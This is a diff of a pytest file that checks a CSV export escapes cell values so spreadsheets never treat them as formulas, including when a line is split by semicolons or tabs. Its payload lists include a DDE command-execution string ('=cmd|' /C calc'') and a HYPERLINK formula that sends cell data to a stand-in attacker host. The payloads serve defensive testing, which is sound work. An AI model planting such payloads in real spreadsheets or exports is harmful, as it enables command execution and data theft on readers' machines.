@@ -19,6 +19,11 @@ ODD = (
     "a\nb",
     "a\rb",
     "a;b",
+    "a; b",
+    "a;b=1",
+    "a;'=1",
+    'say "-1"',
+    "5 - 4 = 1",
     " a",
     "a b",
     "ünï",
@@ -32,6 +37,13 @@ FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "＝1+1", "＋1",
     "－1", "＠SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1;"ok")',
     "=", "-", "-1", "--", '="",=1', "@",
+)  # fmt: skip
+# Where a spreadsheet splits by something else, a formula may begin within a cell.
+WITHIN = (
+    "x;=1+1", "x;=1+1;y", "x;+1;y", "x;-1+1;y", "x;@SUM(1+1);y", "x\t=1+1\ty", "x\n=1+1", "x\r=1+1",
+    "x\r\n=1+1;y", ";=1+1;", "x;＝1+1;y", "x;＋1;y", "x;－1;y", "x;＠SUM(1);y", "x;;\t=1+1\t;y",
+    "x;\t=1+1;y", "x;\n=1+1;y", 'x;"=1+1;y', 'x;""=1+1;y', 'x;"""=1+1";y', 'x;"";=1+1;y',
+    'x";=1+1;y', 'x;"\t"=1+1;y', "x;\0=1+1;y", "x;=1;=2;y\n-3\n", "=1;=2;y", "a;b;=1+1;y",
 )  # fmt: skip
 
 
@@ -98,14 +110,37 @@ def test_a_text_is_read_back_as_it_was(text: str) -> None:
         assert [found[name] for name in names] == [text] * 4
 
 
+def split(text: str, by: str) -> list[str]:
+    """The cells a spreadsheet makes of lines where it splits them by another sign.
+
+    It drops NUL, with which some readers of Python's own stop.
+    """
+    lines = io.StringIO(text.replace("\0", ""), newline="")
+    return [cell for row in csv.reader(lines, delimiter=by) for cell in row]
+
+
+def formulas(cells: list[str]) -> list[str]:
+    """Those that are formulas, whatever blanks and quotes a spreadsheet may leave out before."""
+    return [cell for cell in cells if cell.lstrip('\t\r\n"').startswith(tuple("=+-@＝＋－＠"))]
+
+
 @pytest.mark.gate
 @pytest.mark.parametrize("text", [*FORMULAS, *SIGNS])
 @pytest.mark.parametrize("name", ["reference_id", "key_id", "operation", "reverses_id"])
 def test_no_text_is_taken_for_a_formula(name: str, text: str) -> None:
     line = cells.lines([row(**{name: text})], TARIFFS).decode()
-    assert "\"'" + text.replace('"', '""') + '"' in line
+    assert "\"'" + text[:1] in line
     if "\0" not in text:
         assert all(not each.startswith(SIGNS) for each in read(line.encode())[0][6:])
+
+
+@pytest.mark.gate
+@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN])
+@pytest.mark.parametrize("name", ["reference_id", "key_id", "operation", "reverses_id"])
+@pytest.mark.parametrize("by", [";", "\t"])
+def test_no_text_is_one_however_it_is_split(name: str, text: str, by: str) -> None:
+    line = cells.lines([row(**{name: text})], TARIFFS).decode()
+    assert formulas(split(line, by)) == []
 
 
 @pytest.mark.gate
@@ -114,6 +149,27 @@ def test_control_a_plain_writer_hands_formulas_on(text: str) -> None:
     written = io.StringIO(newline="")
     csv.writer(written).writerow(["job-1", text, "Generate speech"])
     assert next(csv.reader(io.StringIO(written.getvalue(), newline="")))[1].startswith(SIGNS)
+
+
+@pytest.mark.gate
+@pytest.mark.parametrize("text", WITHIN)
+def test_control_a_plain_writer_hands_those_within_on(text: str) -> None:
+    written = io.StringIO(newline="")
+    csv.writer(written).writerow(["job-1", text, "Generate speech"])
+    found = split(written.getvalue(), ";") + split(written.getvalue(), "\t")
+    assert formulas(found)
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("x;=1+1", "x;'=1+1"), ("=1;=2", "'=1;'=2"), ("a:\n- b\r\n- c", "a:\n'- b\r\n'- c"),
+        ('x;"=1', "x;\"'=1"), ("x;\t=1", "x;\t'=1"), ("x;'=1", "x;'=1"), ("x; -1", "x; -1"),
+        ("x,=1", "x,=1"), ("a=1;b=2", "a=1;b=2"),
+    ],
+)  # fmt: skip
+def test_an_apostrophe_stands_before_the_sign_and_nowhere_else(text: str, written: str) -> None:
+    assert read(cells.lines([row(reference_id=text)], TARIFFS))[0][7] == written
 
 
 @pytest.mark.gate
